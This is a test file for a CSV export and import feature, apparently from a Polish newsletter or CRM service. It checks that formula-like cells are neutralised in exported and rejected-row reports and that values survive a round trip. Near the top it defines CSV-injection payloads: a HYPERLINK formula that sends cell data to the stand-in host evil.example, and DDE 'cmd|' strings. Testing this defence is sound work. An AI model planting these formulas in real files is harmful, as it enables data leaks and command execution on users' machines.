import { parse } from 'csv-parse/sync';
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { drainQueues, loggedIn, type ApiSession } from './helpers';
import { importFile, REJECTED_PL, reasonPl, subscriberByEmail } from './imports-helpers';

/** Values a spreadsheet would run as formulas (OWASP CSV injection), and values that must stay as they are. */
const HOSTILE = {
  name: '=HYPERLINK("evil.example?leak="&A1;"Kliknij")',
  comment: "=cmd|' /C calc'!A0",
  city: '@SUM(1+1)*cmd|x',
  note: '+1+cmd|x',
  minus: '-2+3+cmd|x',
};

async function download(session: ApiSession, path: string, query?: Record<string, string>): Promise<Buffer> {
  const link = await session.call('GET', path, { query });
  expect(link.status, JSON.stringify(link.body)).toBe(200);
  return Buffer.from(await (await fetch(link.body.url)).arrayBuffer());
}

async function exported(session: ApiSession, fields: string[], encoding: 'utf-8' | 'windows-1250') {
  const started = await session.call('POST', '/exports', { json: { audience: { kind: 'statuses', statuses: [8] }, fields, encoding } });
  expect(started.status, JSON.stringify(started.body)).toBe(201);
  await drainQueues();
  return download(session, `/exports/${started.body.id}/download`);
}

describe('CSV files are safe to open in a spreadsheet', () => {
  it('exports neutralise formula cells, keep numbers and E.164 numbers, and import back as the same values', async () => {
    const { session } = await loggedIn();
    const points = (
      await session.call('POST', '/properties', { json: { type: 'int', name: 'points', displayName: 'Punkty', signed: true } })
    ).body.id;
    const created = await session.call('POST', '/subscribers', {
      json: {
        email: 'formula@example.pl',
        gsm: '+48601234567',
        name: HOSTILE.name,
        comment: HOSTILE.comment,
        status: 8,
        props: { city: HOSTILE.city, [points]: -5 },
      },
    });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    const fields = ['email', 'gsm', 'name', 'comment', 'city', points];

    const utf8 = parse((await exported(session, fields, 'utf-8')).toString('utf8').replace(/^\uFEFF/, '')) as string[][];
    expect(utf8[1]).toEqual(['formula@example.pl', '+48601234567', `'${HOSTILE.name}`, `'${HOSTILE.comment}`, `'${HOSTILE.city}`, '-5']);
    for (const cell of utf8.flat()) expect(/^[=+\-@\t\r]/.test(cell) && !/^[+-]?\d+$/.test(cell), cell).toBe(false);

    const excel = parse(iconv.decode(await exported(session, fields, 'windows-1250'), 'win1250'), { delimiter: ';' }) as string[][];
    expect(excel[1]).toEqual(utf8[1]);

    // The export imports into another account as exactly the values it came from.
    const other = await loggedIn();
    const otherPoints = (
      await other.session.call('POST', '/properties', { json: { type: 'int', name: 'points', displayName: 'Punkty', signed: true } })
    ).body.id;
    const back = await importFile(other.session, await exported(session, fields, 'windows-1250'), {
      mapping: [
        { column: 0, field: 'email' },
        { column: 1, field: 'gsm' },
        { column: 2, field: 'name' },
        { column: 3, field: 'comment' },
        { column: 4, field: 'city' },
        { column: 5, field: otherPoints },
      ],
      encoding: 'windows-1250',
      delimiter: ';',
    });
    expect(back).toMatchObject({ state: 'finished', counters: { imported: 1, rejected: 0 } });
    const copy = await subscriberByEmail(other.session, 'formula@example.pl');
    expect(copy).toMatchObject({
      gsm: '48601234567',
      name: HOSTILE.name,
      comment: HOSTILE.comment,
      props: { city: HOSTILE.city, [otherPoints]: -5 },
    });
  });

  it('the rejected-rows report neutralises the cells it repeats, in UTF-8 and in Windows-1250 with semicolons', async () => {
    const { session } = await loggedIn();
    const file = `email,name,note\nnot-an-address,${HOSTILE.minus},"${HOSTILE.note}"\nok@example.pl,Ola,x\n`;
    const done = await importFile(session, file, {
      mapping: [
        { column: 0, field: 'email' },
        { column: 1, field: 'name' },
      ],
    });
    expect(done).toMatchObject({ state: 'finished', counters: { imported: 1, rejected: 1 }, reportEncodings: ['utf-8', 'windows-1250'] });

    const utf8 = parse((await download(session, `/imports/${done.id}/report`)).toString('utf8').replace(/^\uFEFF/, ''), {
      relax_column_count: true,
    }) as string[][];
    expect(utf8[1]).toEqual([
      '2',
      REJECTED_PL,
      reasonPl('SUBSCRIBER_INVALID_EMAIL'),
      'E-mail',
      'not-an-address',
      `'${HOSTILE.minus}`,
      `'${HOSTILE.note}`,
    ]);
    const excelBytes = await download(session, `/imports/${done.id}/report`, { encoding: 'windows-1250' });
    expect(excelBytes.subarray(0, 3).equals(Buffer.from([0xef, 0xbb, 0xbf]))).toBe(false);
    const excel = parse(iconv.decode(excelBytes, 'win1250'), { delimiter: ';', relax_column_count: true }) as string[][];
    expect(excel).toEqual(utf8);
  });
});
